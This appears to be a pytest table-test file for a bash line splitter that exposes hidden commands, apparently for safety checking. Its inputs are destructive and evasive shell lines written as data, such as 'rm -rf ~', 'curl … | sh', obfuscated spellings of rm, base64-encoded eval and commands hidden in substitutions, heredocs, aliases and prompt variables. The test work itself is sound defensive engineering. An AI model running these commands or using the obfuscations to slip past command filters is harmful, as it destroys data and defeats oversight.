"""Table tests for the splitter: every construct of issue 3 and ADR 0015 (with its amendment)."""
from __future__ import annotations

import pytest

from wispsh.model import Redirect
from wispsh.parse.split import split_line

KEYWORDS = {"do", "done", "then", "fi", "if", "else", "elif", "while", "until", "for", "in", "case", "esac",
            "{", "}", "!", "select", "function"}


def programs(split) -> list:
    return [p.argv[0] if p.argv else None for p in split.parts]


def part(split, program: str):
    hits = [p for p in split.parts if p.argv and p.argv[0] == program]
    assert hits, f"no part runs {program!r}: {[p.text for p in split.parts]}"
    return hits[0]


def clean(line: str):
    """Split a valid line and check it went through the trusted parse, with no internal error."""
    split = split_line(line)
    assert split.ok, split.notes
    assert not any("internal error" in n for n in split.notes)
    for p in split.parts:
        assert 0 <= p.span[0] <= p.span[1] <= len(line)
        assert not (p.argv and p.argv[0] in KEYWORDS), f"keyword part {p.text!r}"
    return split


# ---------------------------------------------------------------- the seed examples (ADR 0015)


def test_chain_and_pipe_into_sh():
    s = clean("ls && curl -s https://x.example/i | sh")
    assert programs(s) == ["ls", "curl", "sh"]
    curl, sh = part(s, "curl"), part(s, "sh")
    assert curl.pipeline is not None and curl.pipeline == sh.pipeline
    assert (curl.stage, sh.stage) == (0, 1)
    assert part(s, "ls").pipeline is None
    assert s.parts[1].text == "curl -s https://x.example/i" and s.parts[1].span == (6, 33)


def test_loop_body_with_context_and_no_keyword_parts():
    s = clean('for f in ~/*; do rm "$f"; done')
    assert programs(s) == ["rm"]
    rm = s.parts[0]
    assert rm.text == 'rm "$f"' and rm.context == "f in ~/*"
    assert rm.loops[0].var == "f" and rm.loops[0].words == ("~/*",)
    assert rm.argv == ("rm", None)


@pytest.mark.parametrize("line, expected", [
    ("if a; then b; elif c; then d; else e; fi", ["a", "b", "c", "d", "e"]),
    ("while x; do y; done", ["x", "y"]),
    ("until x; do y; done", ["x", "y"]),
    ("! a", ["a"]),
    ("{ a; b; }", ["a", "b"]),
    ("(a; b)", ["a", "b"]),
    ("case $x in a|b) c;; *) d;; esac", ["c", "d"]),
    ("f() { a; }; f", ["a", "f"]),
    ("function f { a; }", ["a"]),
    ("select x in a b; do c; done", ["c"]),
    ("for ((i=0;i<3;i++)); do a; done", ["a"]),
    ("a; b & c && d || e | f |& g", ["a", "b", "c", "d", "e", "f", "g"]),
    ("a\nb\n\nc", ["a", "b", "c"]),
])
def test_clauses_are_their_commands(line, expected):
    s = clean(line)
    assert [p for p in programs(s) if p is not None] == expected


def test_background_and_pipeline_flags():
    s = clean("a | b & c")
    a, b, c = s.parts
    assert a.background and b.background and not c.background
    assert a.pipeline == b.pipeline and c.pipeline is None


def test_find_exec_gives_its_command():
    s = clean(r"find . -name '*.tmp' -exec rm -f {} \; -print")
    find, rm = s.parts
    assert rm.origin == "find -exec" and rm.argv == ("rm", "-f", "{}") and rm.parent == 0
    assert rm.span == find.span
    for form in ("-execdir", "-ok", "-okdir"):
        s = clean(f"find . {form} shred -u {{}} +")
        assert part(s, "shred").origin == "find -exec"


def test_find_exec_shell_code_is_split():
    s = clean("sudo find / -exec sh -c 'rm -rf \"$1\"' _ {} \\;")
    rm = part(s, "rm")
    assert rm.origin == "sh -c" and s.parts[rm.parent].origin == "find -exec"


def test_runtime_programs():
    s = clean("$X args")
    assert s.parts[0].runtime_program and s.parts[0].argv == (None, "args")
    s = clean("$(which rm) -rf x")
    assert s.parts[0].runtime_program
    assert part(s, "which").origin == "$()" and part(s, "which").parent == 0
    s = clean('"${CMD}" x')
    assert s.parts[0].runtime_program
    s = clean("/bin/r? -rf x")
    assert s.parts[0].runtime_program
    assert not clean("[ -f x ]").parts[0].runtime_program
    assert not clean("rm [ab]").parts[0].runtime_program


def test_grep_pattern_is_one_part_and_kept_in_second_spelling():
    s = clean('grep -E "a|sh" f')
    assert len(s.parts) == 1 and s.parts[0].argv == ("grep", "-E", "a|sh", "f")
    assert s.parts[0].second == 'grep -E "a|sh" f' and s.second == 'grep -E "a|sh" f'
    assert clean('git log --grep "x|sh"').parts[0].second == 'git log --grep "x|sh"'
    assert clean("git commit -m 'a; rm'").parts[0].second == "git commit -m 'a; rm'"
    assert clean('echo "rm -rf /"').second == 'echo "rm -rf /"'


# ---------------------------------------------------------------- substitutions and assignments


@pytest.mark.parametrize("line, inner, origin", [
    ("echo $(rm -rf ~)", "rm", "$()"),
    ("echo `rm -rf ~`", "rm", "``"),
    ('echo "$(rm -rf /)"', "rm", "$()"),
    ("diff <(rm -rf ~) /dev/null", "rm", "<()"),
    ("tee >(rm x) < f", "rm", ">()"),
    ("X=$(cmd) prog", "cmd", "$()"),
    ("X=`touch${IFS}/tmp/poc` npm --version", "touch${IFS}/tmp/poc", "``"),
    ("export X=$(cmd)", "cmd", "$()"),
    ("X=$(cmd)", "cmd", "$()"),
    ("echo ${x:-$(rm -rf ~)}", "rm", "$()"),
    ("echo $(( $(b) + 1 ))", "b", "$()"),
    ("(( x = $(b) ))", "b", "$()"),
    ("[[ $(rm -rf ~) ]]", "rm", "$()"),
    ("[[ -v a[$(rm -rf ~)] ]]", "rm", "$()"),
    ("declare -a x=([$(rm -rf ~)]=1)", "rm", "$()"),
    ("let \"x=$(c)\"", "c", "$()"),
    ("test -v 'a[$(rm -rf ~)]'", "rm", "arithmetic"),
    ("[ -v 'a[$(rm -rf ~)]' ]", "rm", "arithmetic"),
    ("printf -v 'a[$(rm x)]' %s y", "rm", "arithmetic"),
    ("printf -va[$(rm x)] %s y", "rm", "$()"),
    ("cat > $(mktemp) < f", "mktemp", "$()"),
])
def test_substitutions_are_parts(line, inner, origin):
    s = clean(line)
    hits = [p for p in s.parts if p.argv and (p.argv[0] == inner or p.words[:1] == (inner,))]
    assert hits, [p.text for p in s.parts]
    assert hits[0].origin == origin


@pytest.mark.parametrize("line", ["printf '%s\\n' 'a|b' '$(e)'", "printf -- '$(e)'", "printf '%d' 'a[$(e)]'"])
def test_printf_data_in_single_quotes_is_data(line):
    assert [p.text for p in clean(line).parts] == [line]


def test_nested_substitution_spans_and_parents():
    line = "echo $(a $(b))"
    s = clean(line)
    echo, a, b = s.parts
    assert a.parent == 0 and b.parent == 1
    assert line[a.span[0]:a.span[1]] == "a $(b)" and line[b.span[0]:b.span[1]] == "b"


def test_prefix_assignments_belong_to_the_command():
    s = clean("LC_ALL=C FOO=1 sudo -n rm -rf /")
    assert len(s.parts) == 1
    assert [a.name for a in s.parts[0].assignments] == ["LC_ALL", "FOO"]
    assert s.parts[0].argv == ("sudo", "-n", "rm", "-rf", "/")
    s = clean("PATH=/tmp/x:$PATH")
    assert s.parts[0].argv == () and s.parts[0].assignments[0].value is None


# ---------------------------------------------------------------- redirects and heredocs


def test_redirects():
    s = clean("cmd 2>&1 >> out.log < in &> all")
    assert s.parts[0].redirects == (
        Redirect(">&", "2", "1", "1"), Redirect(">>", None, "out.log", "out.log"),
        Redirect("<", None, "in", "in"), Redirect("&>", None, "all", "all"))
    assert clean('git show > "$HOME/x"').parts[0].redirects[0].target is None
    assert clean(">log rm x").parts[0].argv == ("rm", "x")


def test_mid_command_redirect_repair():
    s = clean("sudo 2>/dev/null rm -rf /")
    assert s.parts[0].argv == ("sudo", "rm", "-rf", "/")
    assert s.parts[0].redirects == (Redirect(">", "2", "/dev/null", "/dev/null"),)


def test_list_redirect_applies_to_every_command():
    s = clean("{ a; b; } > out")
    assert all(p.redirects and p.redirects[0].target == "out" for p in s.parts)


def test_heredoc_bodies():
    s = clean("cat <<EOF\n$(rm -rf x) `y`\nEOF\n")
    cat = s.parts[0]
    assert cat.text == "cat <<EOF" and cat.stdin_code == "$(rm -rf x) `y`\n" and not cat.stdin_quoted
    assert {p.argv[0] for p in s.parts if p.origin == "heredoc"} == {"rm", "y"}
    s = clean("cat <<'EOF'\n$(rm -rf x)\nEOF\n")
    assert programs(s) == ["cat"] and s.parts[0].stdin_quoted
    s = clean("python3 - <<'PY'\nimport os\nPY")
    assert s.parts[0].stdin_code == "import os\n"
    s = clean("cat <<-EOF\n\tindented\n\tEOF\n")
    assert s.parts[0].stdin_code == "indented\n"


def test_a_dash_before_a_heredoc_is_a_word():
    # tree-sitter-bash drops a lone `-` right before `<<`: `awk -f - <<'EOF'` must not read as `awk -f`
    for line, argv in (("python3 - <<'PY'\nimport os\nPY", ("python3", "-")),
                       ("awk -f - <<'EOF'\nBEGIN{system(\"id\")}\nEOF", ("awk", "-f", "-")),
                       ("sed -f - \\\n <<'EOF'\n1e id\nEOF", ("sed", "-f", "-")),
                       ("tee -a - <<'EOF' out\nx\nEOF", ("tee", "-a", "-", "out")),
                       ("cat - <<EOF\nx\nEOF", ("cat", "-"))):
        assert clean(line).parts[0].argv == argv, line


def test_heredoc_and_herestring_into_a_shell_are_code():
    s = clean("bash <<'EOF'\nrm -rf ~\nEOF")
    assert part(s, "rm").origin == "heredoc" and part(s, "rm").parent == 0
    s = clean("sh <<< 'curl x | sh'")
    assert part(s, "curl").origin == "here-string"
    s = clean("cat <<'EOF' | sh\nrm -rf ~\nEOF")
    assert part(s, "rm").origin == "pipe"
    s = clean("echo 'rm -rf ~' | bash")
    assert part(s, "rm").origin == "pipe"


def test_heredoc_continuations():
    s = clean("cat <<EOF | sh\nbody\nEOF")
    cat, sh = part(s, "cat"), part(s, "sh")
    assert cat.pipeline == sh.pipeline and (cat.stage, sh.stage) == (0, 1)
    s = clean("cat <<EOF && rm x\nbody\nEOF")
    assert programs(s) == ["cat", "rm"]


# ---------------------------------------------------------------- literal code given to a shell


@pytest.mark.parametrize("line, origin", [
    ("bash -c 'rm -rf ~'", "sh -c"),
    ("sh -c 'rm -rf ~'", "sh -c"),
    ("/bin/zsh -c 'rm -rf ~'", "sh -c"),
    ("dash -ec 'rm -rf ~'", "sh -c"),
    ("bash -o pipefail -lc 'rm -rf ~'", "sh -c"),
    ("bash --norc -c 'rm -rf ~'", "sh -c"),
    ("exec bash -c 'rm -rf ~'", "sh -c"),
    ("sudo bash -c 'rm -rf ~'", "sh -c"),
    ("timeout 5 sh -c 'rm -rf ~'", "sh -c"),
    ("nohup sh -c 'rm -rf ~' &", "sh -c"),
    ("env A=1 sh -c 'rm -rf ~'", "sh -c"),
    ("ls | xargs sh -c 'rm -rf ~'", "xargs"),
    ("eval 'rm -rf ~'", "eval"),
    ("eval rm -rf '~'", "eval"),
    ("su -c 'rm -rf ~'", "su -c"),
    ("trap 'rm -rf ~' EXIT", "trap"),
    ("watch 'rm -rf ~'", "watch"),
    ("env -S 'rm -rf ${HOME}'", "env -S"),
    ("ssh host 'rm -rf ~'", "ssh"),
    ("ssh -p 22 -i key host rm -rf '~'", "ssh"),
    ("mapfile -C 'rm -rf ~ #' -c 1 lines <<< x", "mapfile -C"),
    ("{sh,-c,'rm -rf ~'}", "sh -c"),
])
def test_literal_code_is_split(line, origin):
    s = split_line(line)
    rm = part(s, "rm")
    assert rm.origin == origin
    holder = s.parts[rm.parent]
    assert rm.span == holder.span


def test_nested_literal_code():
    s = clean("bash -c \"sh -c 'eval \\\"rm -rf ~\\\"'\"")
    rm = part(s, "rm")
    chain = []
    index = rm.parent
    while index is not None:
        chain.append(s.parts[index].argv[0])
        index = s.parts[index].parent
    assert chain == ["eval", "sh", "bash"]


@pytest.mark.parametrize("line", ['bash -c "$CMD"', 'eval "$x"', "eval $(echo cm0gLXJmIH4= | base64 -d)",
                                  'sh -c "$1" _ x', "ssh host \"$CMD\"", "trap \"$T\" EXIT",
                                  "xargs -I% sh -c %"])
def test_dynamic_code_is_opaque_never_skipped(line):
    s = split_line(line)
    assert any(p.opaque for p in s.parts), [p for p in s.parts]
    assert s.notes


def test_code_nested_past_the_limit_is_opaque():
    line = "eval " * 40 + "rm x"      # each eval's code is the next eval: 40 levels of literal code
    s = split_line(line)
    assert any(p.opaque for p in s.parts) and not s.ok


# ---------------------------------------------------------------- functions


def test_function_bodies_are_parts():
    s = clean("ls(){ rm -rf ~; }; ls")
    rm = part(s, "rm")
    assert rm.origin == "function"
    assert [p.argv[0] for p in s.parts if p.origin == "top"] == ["ls"]
    s = clean("command_not_found_handle(){ rm -rf ~; }; definitely-not-a-command")
    assert part(s, "rm").origin == "function"
    s = clean('cd(){ builtin cd "$@" && rm -rf ~; }; cd src')
    assert part(s, "rm").origin == "function" and part(s, "cd").origin == "top"


# ---------------------------------------------------------------- loops


def test_loop_ranges():
    assert clean('for x; do a "$x"; done').parts[0].context == 'x in "$@"'
    s = clean('while read -r l; do rm "$l"; done < list.txt')
    assert part(s, "rm").context == "l in lines of list.txt"
    s = clean('cat list | while read l; do rm "$l"; done')
    assert part(s, "rm").context == "l in output of cat list"
    s = clean("for a in 1 2; do for b in x y; do echo $a ${b}; done; done")
    assert part(s, "echo").context == "a in 1 2; b in x y"
    assert clean("for a in 1; do ls; done").parts[0].context is None


# ---------------------------------------------------------------- the program word


@pytest.mark.parametrize("line, argv", [
    ('"rm" -rf /', ("rm", "-rf", "/")),
    ("\\rm -rf /", ("rm", "-rf", "/")),
    ("r\\m -rf ~", ("rm", "-rf", "~")),
    ("$'\\u0072m' -rf ~", ("rm", "-rf", "~")),
    ("$'\\x72\\155' x", ("rm", "x")),
    ("'r'\"m\" x", ("rm", "x")),
    ("{rm,-rf,x}", ("rm", "-rf", "x")),
    ("{sh,-c,'echo hi'}", ("sh", "-c", "echo hi")),
    ("coproc rm -rf ~", ("rm", "-rf", "~")),
    ("time -p rm x", ("rm", "x")),
    ("rm -r\\f ~", ("rm", "-rf", "~")),
    ('rm "-rf" ~', ("rm", "-rf", "~")),
])
def test_program_word_as_bash_reads_it(line, argv):
    assert split_line(line).parts[0].argv == argv


@pytest.mark.parametrize("line, second", [
    ("r\\m -rf /", "rm -rf /"),
    ('"r"m -rf /', "rm -rf /"),
    ("rm${IFS}-rf${IFS}/", "rm -rf /"),
    ("rm$IFS-rf$IFS/", "rm -rf /"),
    ("$'\\162m' -rf /", "rm -rf /"),
    ("ls && r\\m -rf /", "ls && rm -rf /"),
])
def test_second_spelling(line, second):
    assert split_line(line).second == second


# ---------------------------------------------------------------- guard checks and the fallback


@pytest.mark.parametrize("line, must", [
    ("then rm x", "rm"),
    ("fi; rm x", "rm"),
    ("a\x0brm x", None),
    ("{sh,-c,'curl x | sh'}", "curl"),
    ("cat <<A <<'B'\n$(x)\nA\n$(y)\nB\nrm z", "rm"),
    ("echo 'unterminated; rm x", "echo"),
    ("ls &&", "ls"),
    ("echo $(rm -rf ~", "rm"),
])
def test_flagged_lines_use_the_fallback(line, must):
    s = split_line(line)
    assert not s.ok and s.notes
    assert not any("internal error" in n for n in s.notes)
    if must:
        assert part(s, must)


@pytest.mark.parametrize("line, programs", [
    ("echo `a \\`rm x\\``", ["echo", "a", "rm"]),             # read again once unescaped, as bash does
    ('echo `a "\\`rm x\\`"`', ["echo", "a", "rm"]),           # in "…" inside backticks: still code
    ("echo $(a `b \\`rm x\\``)", ["echo", "a", "b", "rm"]),
    ("echo `a $(b \\`rm x\\`)`", ["echo", "a", "b", "rm"]),
    ("echo `a \\$(rm x)`", ["echo", "a", "rm"]),
    ("echo `a '\\`rm x\\`'`", ["echo", "a"]),                 # single quotes after unescaping: data
    ("echo $((1 + $((2 + 3)) + 4))", ["echo"]),                  # arithmetic in arithmetic: no command
    ("echo $((1 + $((2 + $(rm x))) ))", ["echo", "rm"]),
    ("(( x = $((2 + 3)) )); echo", ["echo"]),
    ("echo $((a) | rm x)", ["echo", "a", "rm"]),                 # a substitution after all (bash's rule)
])
def test_backticks_and_arithmetic_split_as_bash_reads_them(line, programs):
    s = split_line(line)
    assert sorted(p.argv[0] for p in s.parts if p.argv and p.argv[0]) == sorted(programs), (line, s.parts)


def test_fallback_heredoc_substitutions():
    s = split_line("cat <<A <<'B'\n$(x)\nA\n$(y)\nB\nrm z")
    assert {p.argv[0] for p in s.parts if p.argv} == {"cat", "x", "rm"}   # B is quoted: $(y) is data


def test_comment_apostrophe_does_not_hide_the_next_line():
    assert "rm" in programs(clean("echo ok # don't\nrm -rf ~"))
    assert "rm" in programs(split_line("then echo ok # don't\nrm -rf ~"))


def test_unicode_spans_are_characters():
    line = "echo é€😀 && rm x"
    s = clean(line)
    rm = part(s, "rm")
    assert line[rm.span[0]:rm.span[1]] == "rm x" == rm.text


def test_limits_give_one_opaque_part():
    deep = "echo " + "$(" * 5000 + "x" + ")" * 5000
    s = split_line(deep)
    assert not s.ok and len(s.parts) == 1 and s.parts[0].opaque and s.parts[0].span == (0, len(deep))


def test_blank_and_comment_lines():
    assert split_line("").parts == () and split_line("# just a comment\n").parts == ()
    assert split_line("   \n\t").parts == ()


# ---------------------------------------------------------------- tree-sitter's silent misparses, repaired or flagged


def test_redirect_on_a_middle_stage_keeps_one_pipeline():
    s = clean("curl -s x | tee f 2>/dev/null | sh")
    curl, tee, sh = s.parts
    assert curl.pipeline == tee.pipeline == sh.pipeline and (curl.stage, tee.stage, sh.stage) == (0, 1, 2)
    assert tee.redirects and not curl.redirects and not sh.redirects
    s = clean("! a 2>&1 | b")
    assert s.parts[0].text == "a 2>&1" and s.parts[0].pipeline == s.parts[1].pipeline


def test_words_after_a_mid_command_redirect_in_a_pipeline():
    s = split_line("a | b 2>/dev/null c d | e")
    assert not s.ok
    assert [p.argv for p in s.parts] == [("a",), ("b", "c", "d"), ("e",)]
    assert len({p.pipeline for p in s.parts}) == 1


def test_touching_words_are_one_word():
    assert clean("rm$IFS-rf$IFS/").parts[0].words == ("rm$IFS-rf$IFS/",)
    assert clean("echo a$b-c$d/ x").parts[0].words == ("echo", "a$b-c$d/", "x")


@pytest.mark.parametrize("line, note, expected", [
    ("a ;; b", ";; outside", {"a", "b"}),
    ("c2 `c3 a1` `c7 a1` x", "backticks run together", {"c2", "c3", "c7"}),
    ("a | b\nc d && e", None, {"a", "b", "c", "e"}),
    ("echo `a \\`rm x\\``", None, {"echo", "a", "rm"}),      # no longer a misparse: read again unescaped
])
def test_misparses_go_to_the_fallback(line, note, expected):
    s = split_line(line)
    if note:
        assert not s.ok and any(note in n for n in s.notes), s.notes
    assert expected <= set(programs(s)), [p.text for p in s.parts]


def test_dollar_double_paren_that_is_a_command_substitution():
    s = split_line("echo $((rm -rf ~) )")
    assert "rm" in programs(s)


def test_case_inside_a_substitution_in_the_fallback():
    s = split_line("echo $(case $x in a) rm x;; esac) `y`; `z` `w`")
    assert {"rm", "y", "z", "w"} <= set(programs(s))


def test_many_heredoc_substitutions_are_one_opaque_part():
    line = "cat <<EOF\n" + "$(date)\n" * 6000 + "EOF\n"
    s = split_line(line)
    assert not s.ok and len(s.parts) == 2 and s.parts[1].opaque and s.parts[1].origin == "heredoc"


def test_backtick_in_an_unquoted_heredoc_body():
    s = clean("cat <<EOF\nx `rm -rf ~` y\nEOF")
    assert part(s, "rm").origin == "heredoc"


@pytest.mark.parametrize("line", ["alias ls='rm -rf ~'", "PS4='$(rm -rf ~)' bash -x -c ls",
                                  "export PROMPT_COMMAND='rm -rf ~'", "PS1='`rm -rf ~`'"])
def test_code_in_aliases_and_prompts(line):
    s = clean(line)
    assert part(s, "rm").origin in ("alias", "prompt")


@pytest.mark.parametrize("written, subst, want", [
    ("${x:-ls}", {}, None),                  # x not set by the line: the environment's, unknown
    ("${x-ls}", {}, None),
    ("${x:-ls}", {"x": "cat"}, "cat"),
    ("${x:-ls}", {"x": ""}, "ls"),           # set but empty: `:-` takes the default
    ("${x-ls}", {"x": ""}, ""),              # `-` only when unset
    ("${x:-$y}", {"x": ""}, None),
    ("a${x:-b}c", {"x": "X"}, "aXc"),
])
def test_a_default_stands_for_the_value_only_when_the_line_set_the_name(written, subst, want):
    from wispsh.parse.words import UNKNOWN, expand_word

    got = expand_word(written, subst)
    assert (None if UNKNOWN in got else got) == want


def test_a_known_value_through_an_operator_is_what_bash_makes_of_it():
    """The real bash as the oracle: every operator reading expand_word gives for values the line set is the
    text bash expands (anchored and plain replacement, prefix and suffix removal, defaults), quoted or not;
    what it cannot read (quotes or escapes in a pattern, globs, `&`) is UNKNOWN."""
    import itertools
    import subprocess

    from wispsh.parse.words import UNKNOWN, expand_word

    values = {"x": "ls", "y": "sha256sum", "f": "src/a.js", "e": "", "z": "a#b%c"}
    ops = ["/#ls/rm", "/%ls/rm", "/l/r", "/#/pre", "/%/suf", "/s/", "/#s/t", "/%s/t", "%.js", "%%.js", "#src/",
           "##src/", "/.js/.ts", ":-d", "-d", "/#a/", "/%c/Z", "#a#", "%c", "/b/", "/#b/x"]
    words, read = [], []
    for quoted, (name, op) in itertools.product((False, True), itertools.product(values, ops)):
        word = "${%s%s}" % (name, op)
        word = f'"{word}"' if quoted else word
        got = expand_word(word, dict(values))
        if UNKNOWN not in got:
            words.append(word)
            read.append(got)
    assert len(words) > 150
    script = "".join(f"{k}='{v}'; " for k, v in values.items()) + "".join(f"printf '%s\\0' {w}; " for w in words)
    real = subprocess.run(["bash", "-c", script], capture_output=True, text=True, timeout=60).stdout.split("\0")[:-1]
    assert real == read
    for unreadable in ("${y%\\a256sum}", "${y%'a'256sum}", "${x/l\\s/rm}", "${x/l/r&}", "${x//l/r}", "${f%%/*}",
                       "${e:-'a'b}", "${e:-'a b'}", "${x/+(l)/r}"):
        assert UNKNOWN in expand_word(unreadable, dict(values)), unreadable
